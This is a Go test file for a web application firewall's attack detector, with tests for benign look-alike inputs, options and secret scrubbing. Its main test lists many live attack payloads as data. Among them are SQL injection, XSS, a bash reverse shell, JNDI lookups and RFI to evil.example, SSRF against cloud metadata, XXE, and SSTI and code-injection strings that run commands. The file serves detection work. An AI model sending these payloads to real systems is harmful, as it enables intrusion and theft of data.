package detect

import (
	"strings"
	"sync"
	"testing"

	"github.com/lambdawaf/lambdawaf/agent/event"
)

func q(key, text string) event.Value {
	return event.Value{Part: event.PartQuery, Location: "query." + key, Key: key, Text: text, Record: -1}
}

func body(key, text string) event.Value {
	return event.Value{Part: event.PartBody, Location: "body." + key, Key: key, Text: text, Record: -1}
}

func hdr(key, text string) event.Value {
	return event.Value{Part: event.PartHeader, Location: "header." + key, Key: key, Text: text, Record: -1}
}

func path(text string) event.Value {
	return event.Value{Part: event.PartPath, Location: "path", Text: text, Record: -1}
}

func classes(sigs []Signal) string {
	var b []string
	for _, s := range sigs {
		b = append(b, string(s.Class)+"/"+s.Rule)
	}
	return strings.Join(b, ",")
}

func hasClass(sigs []Signal, c Class) bool {
	for _, s := range sigs {
		if s.Class == c {
			return true
		}
	}
	return false
}

type attackCase struct {
	name  string
	v     event.Value
	class Class
}

func TestDetectsAttacks(t *testing.T) {
	e := New(Options{})
	cases := []attackCase{
		// SQL injection, libinjection and lexer
		{"sqli union", q("id", "1 UNION SELECT username, password FROM users"), SQLi},
		{"sqli union comments", q("id", "1/**/UNION/**/SELECT/**/1,2,3"), SQLi},
		{"sqli tautology quote", body("user", "' OR 1=1;'"), SQLi},
		{"sqli or true numeric", q("id", "1 or true"), SQLi},
		{"sqli admin hash", body("username", "admin' #"), SQLi},
		{"sqli admin dashes", body("username", "admin'--"), SQLi},
		{"sqli stacked", q("id", "1; DROP TABLE users"), SQLi},
		{"sqli stacked quote", q("name", "x'; DELETE FROM accounts WHERE 1=1--"), SQLi},
		{"sqli sleep", q("id", "1 AND SLEEP(5)"), SQLi},
		{"sqli waitfor", q("id", "1'; WAITFOR DELAY '0:0:5'--"), SQLi},
		{"sqli benchmark", q("id", "1 and benchmark(10000000,md5(1))"), SQLi},
		{"sqli string tautology", q("name", "' or 'a'='a"), SQLi},
		{"sqli double quote", q("name", "\" or \"\"=\""), SQLi},
		{"sqli information schema", q("q", "x' union all select table_name from information_schema.tables--"), SQLi},
		{"sqli in cookie", event.Value{Part: event.PartCookie, Location: "cookie.sid", Key: "sid", Text: "abc' OR '1'='1", Record: -1}, SQLi},
		{"sqli in header", hdr("x-forwarded-for", "1.2.3.4' AND 1=1--"), SQLi},
		{"sqli in record", event.Value{Part: event.PartRecord, Location: "records[2].body.sku", Key: "sku", Text: "x' OR 1=1 --", Record: 2}, SQLi},
		{"sqli order by", q("sort", "name' ORDER BY 5--"), SQLi},
		{"sqli extractvalue", q("id", "1 and extractvalue(1,concat(0x7e,version()))"), SQLi},
		{"sqli key", event.Value{Part: event.PartQuery, Location: "query.x", Key: "a' or 1=1--", Text: "1", Record: -1}, SQLi},
		// XSS
		{"xss script", q("q", "<script>alert(1)</script>"), XSS},
		{"xss img onerror", body("comment", `<img src=x onerror=alert(document.cookie)>`), XSS},
		{"xss svg onload", q("q", `<svg/onload=alert(1)>`), XSS},
		{"xss raw text end tag", q("q", "</script>"), XSS},
		{"xss textarea breakout", body("comment", `'</textarea>`), XSS},
		{"xss javascript url", q("next", "javascript:alert(1)"), XSS},
		{"xss javascript url obfuscated", q("next", "java\tscript:alert(1)"), XSS},
		{"xss attribute breakout", q("q", `" onmouseover="alert(1)`), XSS},
		{"xss js breakout", q("q", `';alert(1);//`), XSS},
		{"xss data uri", q("u", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), XSS},
		{"xss iframe", body("bio", `<iframe src="//evil.example"></iframe>`), XSS},
		{"xss details", body("bio", `<details open ontoggle=prompt(1)>`), XSS},
		{"xss user agent", hdr("user-agent", `<script>alert(1)</script>`), XSS},
		// Path traversal / LFI
		{"lfi passwd", q("file", "../../../../etc/passwd"), PathTraversal},
		{"lfi windows", q("file", `..\..\..\windows\win.ini`), PathTraversal},
		{"lfi boot ini", q("f", `C:\boot.ini`), PathTraversal},
		{"lfi encoded", q("file", "..%2f..%2f..%2fetc%2fpasswd"), PathTraversal},
		{"lfi double encoded", q("file", "..%252f..%252fetc%252fpasswd"), PathTraversal},
		{"lfi overlong", q("file", "..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd"), PathTraversal},
		{"lfi null byte", q("page", "../../etc/passwd\x00.png"), PathTraversal},
		{"lfi absolute", q("template", "/etc/shadow"), PathTraversal},
		{"lfi proc", q("path", "/proc/self/environ"), PathTraversal},
		{"lfi dots", q("doc", "....//....//....//etc/hosts"), PathTraversal},
		{"lfi in path", path("/static/../../../../etc/passwd"), PathTraversal},
		{"lfi aws creds", body("filename", "../../root/.aws/credentials"), PathTraversal},
		{"lfi compressed log", body("cmd", "gunzip -c /var/log/something_sensitive.gz"), PathTraversal},
		{"lfi file url", q("u", "file:///etc/passwd"), SSRF},
		// RFI
		{"rfi include", q("page", "http://evil.example/shell.txt"), RFI},
		{"rfi trailing question", q("x", "http://evil.example/shell.txt?"), RFI},
		{"rfi trailing question on a bare host", q("x", "https://foo.bar?"), RFI},
		{"rfi php wrapper", q("f", "php://filter/convert.base64-encode/resource=index.php"), RFI},
		{"rfi ip url", q("x", "http://203.0.113.9/x.txt"), RFI},
		// Command injection
		{"cmdi semicolon", q("host", "8.8.8.8; cat /etc/passwd"), CommandInj},
		{"cmdi pipe", q("ip", "127.0.0.1 | whoami"), CommandInj},
		{"cmdi and", q("ip", "127.0.0.1 && id"), CommandInj},
		{"cmdi subshell", q("name", "$(whoami)"), CommandInj},
		{"cmdi backtick", q("name", "`id`"), CommandInj},
		{"cmdi ifs", q("cmd", "cat${IFS}/etc/passwd"), CommandInj},
		{"cmdi quotes", q("x", ";c'a't /etc/passwd"), CommandInj},
		{"cmdi backslash", q("x", `;w\h\o\a\m\i`), CommandInj},
		// a shell phrase needs no separator, whatever sink the name suggests
		{"cmdi phrase in a URL-named parameter", body("data", "powershell -enc SQBFAFgA"), CommandInj},
		{"cmdi phrase in a file-named parameter", q("file", "powershell -EncodedCommand SQBFAFgA"), CommandInj},
		// a weak command word chained on between two '&'
		{"cmdi background chain", q("x", "1&sleep 60&"), CommandInj},
		{"cmdi background chain spaced", q("x", "1 & sleep 60 &"), CommandInj},
		{"cmdi background bare word", q("x", "x&id&"), CommandInj},
		// any command word chained on to one argument
		{"cmdi chained to a number", q("x", "1 & sleep 60"), CommandInj},
		{"cmdi chained to an address", q("host", "127.0.0.1 | echo x"), CommandInj},
		{"cmdi chained to a letter", q("x", "a;set"), CommandInj},
		{"cmdi newline", q("x", "foo\nid -u"), CommandInj},
		{"cmdi windows", q("x", "x & cmd /c dir"), CommandInj},
		{"cmdi powershell", body("x", "powershell -enc SQBFAFgA"), CommandInj},
		{"cmdi reverse shell", body("x", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), CommandInj},
		{"cmdi sleep", q("ip", "1.1.1.1;sleep 5"), CommandInj},
		{"cmdi brace", q("x", ";{cat,/etc/passwd}"), CommandInj},
		{"cmdi path", q("x", "|/bin/ls -la"), CommandInj},
		// SSRF
		{"ssrf metadata", q("url", "http://169.254.169.254/latest/meta-data/"), SSRF},
		{"ssrf decimal", q("url", "http://2852039166/latest/meta-data/"), SSRF},
		{"ssrf hex", q("url", "http://0xa9fea9fe/"), SSRF},
		{"ssrf octal", q("url", "http://0251.0376.0251.0376/"), SSRF},
		{"ssrf bare decimal host", q("target", "2130706433"), SSRF},
		{"ssrf bare short host", q("url", "127.1"), SSRF},
		{"ssrf mapped", q("url", "http://[::ffff:a9fe:a9fe]/"), SSRF},
		{"ssrf mapped dotted", q("url", "http://[::ffff:169.254.169.254]/"), SSRF},
		{"ssrf ipv6 imds", q("url", "http://[fd00:ec2::254]/latest/"), SSRF},
		{"ssrf nip", q("webhook", "http://169.254.169.254.nip.io/latest"), SSRF},
		{"ssrf google", body("callback", "http://metadata.google.internal/computeMetadata/v1/"), SSRF},
		{"ssrf gopher", q("u", "gopher://127.0.0.1:6379/_FLUSHALL"), SSRF},
		{"ssrf dict", q("u", "dict://localhost:11211/stat"), SSRF},
		{"ssrf bare ip in url param", q("url", "169.254.169.254"), SSRF},
		{"ssrf userinfo", q("url", "http://example.com@169.254.169.254/"), SSRF},
		{"ssrf localhost", q("redirect_uri", "http://localhost:8080/admin"), SSRF},
		{"ssrf short form", q("url", "http://169.254.43518/"), SSRF},
		// JNDI
		{"jndi plain", hdr("user-agent", "${jndi:ldap://evil.example/a}"), JNDI},
		{"jndi lower", hdr("x-api-version", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"), JNDI},
		{"jndi default", q("q", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}"), JNDI},
		{"jndi env", q("q", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}"), JNDI},
		{"jndi env exfil", hdr("referer", "${env:AWS_SECRET_ACCESS_KEY}"), JNDI},
		// XXE
		{"xxe system", body("xml", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`), XXE},
		{"xxe parameter", body("xml", `<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]>`), XXE},
		{"xinclude", body("xml", `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`), XXE},
		{"billion laughs", body("xml", `<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>`), XXE},
		// SSTI
		{"ssti jinja", q("name", "{{7*7}}"), SSTI},
		{"ssti jinja string", q("name", "{{7*'7'}}"), SSTI},
		{"ssti jinja dunder", body("name", "{{ ''.__class__.__mro__[1].__subclasses__() }}"), SSTI},
		{"ssti jinja config", q("name", "{{config.items()}}"), SSTI},
		{"ssti twig", q("name", "{{_self.env.registerUndefinedFilterCallback('exec')}}"), SSTI},
		{"ssti el", q("name", "${7*7}"), SSTI},
		{"ssti freemarker", q("name", `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`), SSTI},
		{"ssti freemarker list", q("name", `<#list .data_model?keys as key>${key}</#list>`), SSTI},
		{"ssti flask session", q("name", `{{session.update({"admin":true})}}`), SSTI},
		{"ssti el session", q("name", `#{session.setAttribute("admin",true)}`), SSTI},
		{"ssti go call", q("name", "{{ call .Func }}"), SSTI},
		{"ssti velocity", q("name", `#set($x = 7*7)$x`), SSTI},
		{"ssti erb", q("name", "<%= 7*7 %>"), SSTI},
		{"ssti spring", q("name", "${T(java.lang.Runtime).getRuntime().exec('id')}"), SSTI},
		{"ssti jinja block", q("name", "{% import os %}{{ os.popen('id').read() }}"), SSTI},
		{"ssti thymeleaf", q("lang", "__${7*7}__::.x"), SSTI},
		// NoSQL
		{"nosql ne key", event.Value{Part: event.PartBody, Location: "body.password.$ne", Key: "$ne", Text: "", Record: -1}, NoSQLi},
		{"nosql gt key", event.Value{Part: event.PartBody, Location: "body.password.$gt", Key: "$gt", Text: "", Record: -1}, NoSQLi},
		{"nosql query syntax", event.Value{Part: event.PartQuery, Location: "query.user[$ne]", Key: "user[$ne]", Text: "x", Record: -1}, NoSQLi},
		{"nosql where", event.Value{Part: event.PartBody, Location: "body.$where", Key: "$where", Text: "this.password.length > 0", Record: -1}, NoSQLi},
		{"nosql embedded json", q("filter", `{"username": {"$ne": null}}`), NoSQLi},
		{"nosql js breakout", q("user", `admin' || 'a'=='a`), SQLi},
		{"nosql regex", event.Value{Part: event.PartQuery, Location: "query.password[$regex]", Key: "password[$regex]", Text: "^a.*", Record: -1}, NoSQLi},
		// LDAP
		{"ldap wildcard", q("user", "*)(uid=*))(|(uid=*"), LDAPi},
		{"ldap always true", q("user", "admin)(&)"), LDAPi},
		{"ldap or", q("user", "*)(|(objectclass=*)"), LDAPi},
		{"ldap password", q("user", "admin*)((|userpassword=*)"), LDAPi},
		{"ldap metacharacter probe", q("user", "*()|&'"), LDAPi},
		// Scanners
		{"scanner sqlmap", hdr("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), Scanner},
		{"scanner nikto", hdr("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)"), Scanner},
		{"scanner nuclei", hdr("user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"), Scanner},
		{"scanner probe git", path("/.git/config"), Scanner},
		{"scanner probe env", path("/.env"), Scanner},
		{"scanner oast", q("callback", "http://abc123.oastify.com/"), Scanner},
		// Code injection
		{"php tag", body("content", "<?php system($_GET['c']); ?>"), CodeInj},
		{"php call", q("x", "system('id')"), CodeInj},
		{"php serialized", q("data", `O:8:"stdClass":1:{s:4:"test";s:3:"abc";}`), CodeInj},
		{"php variable call", q("x", "$a=$_GET['f'];$a($_GET['x']);"), CodeInj},
		{"php ini", q("x", "allow_url_include=1"), CodeInj},
		{"java runtime", body("x", "java.lang.Runtime.getRuntime().exec(\"id\")"), CodeInj},
		{"java serialized b64", body("x", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="), CodeInj},
		{"java ognl", hdr("content-type", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"), SSTI}, // OGNL is an expression language
		{"spring4shell", event.Value{Part: event.PartBody, Location: "body.class.module.classLoader.resources.context.parent.pipeline.first.pattern", Key: "class.module.classLoader.resources.context.parent.pipeline.first.pattern", Text: "x", Record: -1}, CodeInj},
		{"node child_process", body("x", "require('child_process').exec('id')"), CodeInj},
		{"prototype pollution key", event.Value{Part: event.PartBody, Location: "body.__proto__.admin", Key: "__proto__", Text: "true", Record: -1}, CodeInj},
		{"prototype pollution query", event.Value{Part: event.PartQuery, Location: "query.constructor[prototype][admin]", Key: "constructor[prototype][admin]", Text: "1", Record: -1}, CodeInj},
		{"node serialize", body("x", `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`), CodeInj},
		{"python import", body("x", "__import__('os').system('id')"), CodeInj},
		{"java class name", q("x", "java.io.BufferedReader"), CodeInj},
		{"java gadget", event.Value{Part: event.PartCookie, Location: "cookie.processbuilder", Key: "ProcessBuilder", Text: "ProcessBuilder", Record: -1, IsKey: true}, CodeInj},
		{"java serialized other alignment", q("x", "KztAAUc3IAEWphdmEudXRpbA"), CodeInj},
		{"node endless loop", q("eval", "while(!0);"), CodeInj},
		{"php call with comment", q("foo", "exec //comment\r\n (blah)"), CodeInj},
		{"php wrapped call", q("x", "(system)('uname');"), CodeInj},
		{"php upload header", hdr("x-filename", "shell.phtml"), CodeInj},
		{"jsp upload trailing dots", body("filename", "shell.jsp..."), CodeInj},
		{"perl interpolation", q("x", "@{[system 'whoami']}"), CodeInj},
		{"fork bomb", q("cmd", ":(){ :|:& };:"), CommandInj},
		{"fork bomb named", q("cmd", "f(){ f() | f(); }; f"), CommandInj},
		{"shellshock", hdr("user-agent", "() { :; }; /bin/bash -c 'id'"), CommandInj},
		{"unset variable in word", q("cmd", "a; sh$XX -c whoami"), CommandInj},
		{"bin path", q("a", "/usr/bin/visudo"), CommandInj},
		{"windows for loop", q("foo", "FOR %%G IN (a b) DO echo %%G"), CommandInj},
		{"windows if exist", q("foo", "IF EXIST data.xls ECHO found"), CommandInj},
		{"shell glob file", q("s", "cat /etc/pa[s]swd"), CommandInj},
		{"bash arithmetic", q("x", "$((1+1))"), CommandInj},
		{"sql pg cast", q("id", "starts_with(password,'a')::int"), SQLi},
		{"sql lone function", q("pay", "sysdate("), SQLi},
		{"sql catalog plain", q("t", "information_schema"), SQLi},
		{"xss comment obfuscation", q("a", `document /*foo*/ . cookie`), XSS},
		{"xss tagged template", q("x", "[].map.call`${eval}`"), XSS},
		{"xss loose handler", q("body", `<"onwebkitplaybacktargetavailabilitychanged=`), XSS},
		{"ssrf decimal overflow", q("url", "http://7147006462/"), SSRF},
		{"ssrf docker host", q("url", "http://host.docker.internal/"), SSRF},
		{"lfi ai tool config", path("/.claude/settings.json"), PathTraversal},
		// Session fixation
		{"cookie set", q("x", `<script>document.cookie="sessionid=1234; domain=.example.com";</script>`), SessionFixation},
		{"cookie set plain", q("x", `document.cookie="sessionid=1234; expires=Fri, 01 Jan 2038";`), SessionFixation},
		{"meta set-cookie", q("x", `<meta http-equiv="Set-Cookie" content="sessionid=abc">`), SessionFixation},
		{"session param", q("jsessionid", "1234567890"), SessionFixation},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			sigs := e.Inspect(tc.v, nil)
			if !hasClass(sigs, tc.class) {
				t.Errorf("Inspect(%q @%s) = [%s], want class %s", tc.v.Text, tc.v.Location, classes(sigs), tc.class)
			}
			for _, s := range sigs {
				if len(s.Excerpt) > MaxExcerpt+16 {
					t.Errorf("excerpt too long: %d bytes", len(s.Excerpt))
				}
				if s.Score < 1 || s.Score > 10 {
					t.Errorf("score out of range: %d", s.Score)
				}
				if s.Rule == "" {
					t.Errorf("empty rule")
				}
			}
		})
	}
}

func TestPassesLookAlikes(t *testing.T) {
	e := New(Options{})
	cases := []event.Value{
		body("name", "Conan O'Brien"),
		body("name", "Seán O'Connor-D'Arcy"),
		body("comment", "I'd like to select a plan that fits my team, or maybe drop shipping altogether."),
		body("comment", "Please update the shipping address; delete the old one from my profile."),
		body("comment", "We sell 1 or 2 units a day, and sometimes more."),
		body("comment", "Tom & Jerry; cats | dogs"),
		body("comment", "Tom & cat & dog"),
		body("comment", "bread & cat & milk"),
		q("next", "2"), // a page, not the host 0.0.0.2
		q("target", "0.00"),
		q("ref", "1.5"),
		body("comment", "1\nSet the table\n2\nServe the soup"),
		body("comment", "Usage:\n  file <input> [--verbose]"),
		body("title", "Rock 'n' roll -- the history of a genre"),
		q("q", "select a plan"),
		q("q", "drop shipping"),
		body("comment", "the </script> tag ends the block"),
		body("comment", "</p><p>next paragraph</p>"),
		// an application's own log directory, as configuration names it
		body("log_dir", "/var/log/myapp"),
		// a page link with an empty query names no file to include
		body("avatar_url", "http://alambic.github.com/avatars/u/5346?"),
		q("token", "dGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0IGVuY29kaW5nIHdpdGggb3IgYW5kIDE9MQ=="),
		q("token", "12345||12345"),
		q("token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"),
		q("url", "https://example.com/path?a=1&b=2"),
		q("callback", "https://hooks.example.org/notify"),
		q("redirect_uri", "https://app.example.com/oauth/callback"),
		body("readme", "See ../docs/setup.md for details on how to configure the project."),
		q("file", "reports/2024/summary.pdf"),
		body("code", "const total = items.reduce((a, b) => a + b.price, 0);"),
		body("code", "if (a && b) { return x || y; }"),
		body("markdown", "# Title\n\n**bold** and _italic_ text with a [link](https://example.com)."),
		body("template", "Hello {{name}}, your order {{ order.id }} ships ${date}."),
		body("email", "jane.doe+tag@example.co.uk"),
		body("phone", "+1 (555) 123-4567"),
		body("query", "query GetUser($id: ID!) { user(id: $id) { name email } }"),
		body("text", "Привет, как дела? 你好世界 مرحبا"),
		body("text", "The price is $5 (or $4.50 with coupon)."),
		body("math", "2 x 3 equals 6, and 10 divided by 2 is 5"),
		body("json", `{"a": 1, "b": [1,2,3]}`),
		hdr("user-agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
		hdr("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
		hdr("cookie", "a=1; b=2"),
		path("/api/v1/users/42/orders"),
		q("sort", "name,-created_at"),
		q("filter", "status:open AND priority:high"),
		body("bio", "I love <3 cats & dogs, and 5 > 3."),
		body("note", "Use the cat command to print a file."),
		body("html", "<p>Hello <b>world</b></p>"),
		body("price", "1,299.00"),
		body("sql_question", "What's the difference between UNION and JOIN?"),
		body("time", "12:30:45"),
		body("ldap", "(see note)(2)"),
		body("schema", `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "x"}`),
		event.Value{Part: event.PartBody, Location: "body.$ref", Key: "$ref", Text: "#/definitions/x", Record: -1},
		body("ip", "10.0.0.1"),
		body("desc", "Meet at 5 o'clock; bring snacks & drinks"),
		body("command", "Please run the report"),
		body("code", "while (queue.length) { process(queue.shift()); }"),
		body("note", "Use java for the backend and node for the frontend."),
		body("html", "<a href=\"/docs\" title=\"online help\">docs</a>"),
		body("text", "If you exist in our records, we will email you."),
		body("filename", "report.pdf"),
		body("price", "Total: (24%) of 1,299.00"),
		q("page", "page[1]"),
	}
	for _, v := range cases {
		if sigs := e.Inspect(v, nil); len(sigs) > 0 {
			t.Errorf("Inspect(%q @%s) = [%s], want none", v.Text, v.Location, classes(sigs))
		}
	}
}

func TestOptionsDisable(t *testing.T) {
	v := q("id", "1 UNION SELECT 1,2")
	if sigs := New(Options{DisableClasses: []Class{SQLi}}).Inspect(v, nil); hasClass(sigs, SQLi) {
		t.Errorf("class disabled but got %s", classes(sigs))
	}
	if sigs := New(Options{DisableRules: []string{"sqli-libinjection", "sqli-lexer"}}).Inspect(v, nil); hasClass(sigs, SQLi) {
		t.Errorf("rules disabled but got %s", classes(sigs))
	}
	if sigs := New(Options{MinScore: 10}).Inspect(v, nil); len(sigs) != 0 {
		t.Errorf("MinScore 10 but got %s", classes(sigs))
	}
	if sigs := New(Options{}).Inspect(v, nil); !hasClass(sigs, SQLi) {
		t.Errorf("default options missed SQLi")
	}
}

func TestExcerptScrubsSecrets(t *testing.T) {
	cases := []struct{ in, notWant string }{
		{"token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefghijk' OR 1=1", "eyJhbGci"},
		{"key=AKIAIOSFODNN7EXAMPLE' OR 1=1", "AKIAIOSFODNN7EXAMPLE"},
		{"card=4111 1111 1111 1111' OR 1=1", "4111 1111"},
	}
	for _, c := range cases {
		got := Excerpt(c.in, 0, len(c.in))
		if strings.Contains(got, c.notWant) {
			t.Errorf("Excerpt(%q) = %q, still holds %q", c.in, got, c.notWant)
		}
	}
	long := strings.Repeat("a", 1000) + "<script>" + strings.Repeat("b", 1000)
	if got := Excerpt(long, 1000, 1008); len(got) > MaxExcerpt || !strings.Contains(got, "<script>") {
		t.Errorf("Excerpt window = %q", got)
	}
}

func TestConcurrentInspect(t *testing.T) {
	e := New(Options{})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				if sigs := e.Inspect(q("id", "1' OR '1'='1"), nil); !hasClass(sigs, SQLi) {
					t.Error("missed under concurrency")
					return
				}
				if sigs := e.Inspect(q("q", "hello world"), nil); len(sigs) != 0 {
					t.Error("FP under concurrency")
					return
				}
			}
		}()
	}
	wg.Wait()
}
